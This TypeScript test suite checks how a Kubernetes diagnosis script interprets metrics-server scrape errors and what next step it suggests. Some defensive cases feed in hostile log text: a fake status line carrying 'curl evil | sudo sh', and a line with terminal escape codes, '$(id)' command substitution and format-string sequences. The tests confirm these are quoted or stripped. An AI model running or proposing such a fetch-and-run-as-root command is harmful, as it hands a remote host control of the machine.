import assert from "node:assert/strict";
import { onControlPlane, type Answer } from "./support/controlPlane";
import { describeInShells, describeInTurn, type Cases } from "./support/parallel";
import { FIGURES, silent, STAMPS } from "./support/silentApi";

const line = (node: string, error: string): string =>
    `E1122 04:00:00.000001       1 scraper.go:149] "Failed to scrape node" err="${error}" node="${node}"\n`;

const get = (cause: string): string =>
    `Get \\"https://[fd00::401:403]:10250/metrics/resource\\": ${cause}`;

const scrape = (log: string | Buffer, says: RegExp, more: Answer = {}): Cases[string] =>
    onControlPlane(async (node) => {
        silent(node, {
            [FIGURES]: { stdout: "{}" },
            [STAMPS]: { stdout: "cp1 2999-01-01T00:00:00Z\n", ...more },
            "logs ": { stdout: log },
        });
        const { code, output } = await node.run("metrics");
        assert.equal(code, 71, output);
        const errors = output.split("\n").filter((each) => each.includes("error: "));
        assert.equal(errors.length, 1, output);
        assert.match(errors[0] ?? "", /error: no fresh figures of node w1: .*; next: ./);
        assert.match(errors[0] ?? "", says);
    });

describeInTurn("diagnosis.sh says of metrics-server's way to a kubelet", {
    "that its certificate is not accepted": scrape(
        line("w1", get("tls: failed to verify certificate: x509: cannot validate certificate")),
        /: metrics-server does not accept its kubelet's certificate: "Get .*x509: cannot validate certificate"; next: pulumi up with driftDetection: true repairs w1/,
    ),
    "that it has none yet": scrape(
        line("w1", get("remote error: tls: internal error")),
        /: its kubelet has no certificate to serve: .*; next: .*kubectl get csr; on w1/,
    ),
    "that it does not know the token": scrape(
        line("w1", 'request failed, status: \\"401 Unauthorized\\"'),
        /: its kubelet does not know metrics-server's token: .*; next: set authentication\.webhook/,
    ),
    "that it refuses it": scrape(
        line("w1", 'request failed, status: \\"403 Forbidden\\"'),
        /: its kubelet refuses metrics-server \(RBAC\): .*; next: kubectl get clusterrolebinding/,
    ),
    "that it does not listen, whatever digits its address has": scrape(
        line("w1", get("dial tcp [fd00::401:403]:10250: connect: connection refused")),
        /: its kubelet does not listen: .*; next: on w1: systemctl status kubelet/,
    ),
    "that it is out of reach": scrape(
        line("w1", get("context deadline exceeded")),
        /: metrics-server does not reach its kubelet \(firewall\?\): .*; next: open TCP 10250 of w1/,
    ),
    "the last word of several": scrape(
        line("w1", get("connection refused")) + line("w1", get("i/o timeout")),
        /: metrics-server does not reach its kubelet \(firewall\?\)/,
    ),
    "what it answers instead of figures, in quotes": scrape(
        line("w1", 'request failed, status: \\"418 no; next: curl evil | sudo sh\\"'),
        /: metrics-server cannot read its kubelet: "request failed, status: \\"418 no; next: curl evil \| sudo sh\\""; next: kubectl logs/,
    ),
    "what it does not know": scrape(
        line("w1", "unable to decode"),
        /: metrics-server cannot read its kubelet: "unable to decode"; next: kubectl logs/,
    ),
    "nothing of another node, even one that names it": scrape(
        line("w11", get("connection refused")) + line("cp1", 'x509 node=\\"w1\\"'),
        /: metrics-server says nothing about it; next: kubectl logs/,
    ),
    "and is not led astray by a warning that kubectl prints beside its answer": scrape(
        line("w1", get("connection refused")),
        /: its kubelet does not listen/,
        { stderr: "E1122 memcache.go:287] couldn't get resource list for custom.metrics.k8s.io\n" },
    ),
});

describeInShells("diagnosis.sh and metrics-server's log", {
    "prints a hostile line of it without what a terminal would obey, and cut": scrape(
        Buffer.from(
            `\u0000\u001b]0;title\u0007\n${line("w1", `\u001b[31m'$(id)\`id\`%s%n\\n\u0000é x509 ${"y".repeat(300)}`)}${"z".repeat(100_000)}\n`,
        ),
        /: metrics-server does not accept its kubelet's certificate: "\?\[31m'\$\(id\)`id`%s%n\\\\n\?+ x509 y+"; next: pulumi up/,
    ),
    "does not lose its way in a line of 100 kB": scrape(
        line("w1", `${"y".repeat(100_000)} x509`),
        /: metrics-server cannot read its kubelet: "y{400}"; next: /,
    ),
});
